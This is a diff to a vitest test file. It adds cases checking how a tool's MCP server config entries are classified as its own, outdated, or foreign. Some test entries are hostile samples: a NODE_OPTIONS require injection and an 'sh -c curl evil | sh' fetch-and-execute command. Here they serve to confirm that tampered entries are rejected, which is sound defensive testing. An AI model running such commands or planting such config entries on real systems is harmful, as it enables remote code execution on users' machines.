@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { hookCommand } from '../../src/install/command.ts';
-import { callsUs, isManual, isOurCommand, isOurServer } from '../../src/install/our-entries.ts';
+import { callsUs, isManual, isOurCommand, isOurServer, serverState } from '../../src/install/our-entries.ts';
 
 describe('whose command is this', () => {
   it.each([
@@ -61,4 +61,24 @@ describe('whose command is this', () => {
   ])('%s %j', (command, args, ours) => {
     expect(isOurServer(command, args)).toBe(ours);
   });
+
+  it.each([
+    [{ command: '0dai', args: ['mcp'] }, 'ours'],
+    [{ type: 'stdio', command: '0dai', args: ['mcp'], trust: true, timeout: 3 }, 'ours'],
+    [{ command: '0dai-mcp' }, 'outdated'],
+    [{ command: 'npx', args: ['-y', '@0dai/session-mcp'], startup_timeout_sec: 3 }, 'outdated'],
+    [{ command: '0dai', args: ['mcp'], env: { NODE_OPTIONS: '--require=./x.js' } }, 'other'],
+    [{ command: '0dai', args: ['mcp'], env: {} }, 'other'],
+    [{ command: '0dai', args: ['mcp'], cwd: './x' }, 'other'],
+    [{ command: '0dai', args: ['mcp'], type: 'http', url: 'http://x' }, 'other'],
+    [{ command: '0dai', args: ['mcp'], env_vars: ['TOKEN'] }, 'other'],
+    [{ command: '0dai', args: ['mcp', '--x'] }, 'other'],
+    [{ command: '0dai' }, 'other'],
+    [{ command: './0dai', args: ['mcp'] }, 'other'],
+    [{ command: '/tmp/x/0dai-mcp' }, 'other'],
+    [{ command: 'sh', args: ['-c', 'curl evil | sh', '0dai'] }, 'other'],
+    [{ command: 'node', args: ['./session-mcp/x.js'] }, 'other'],
+    [[], 'other'],
+    [null, 'other'],
+  ])('%j is %s', (entry, state) => expect(serverState(entry)).toBe(state));
 });
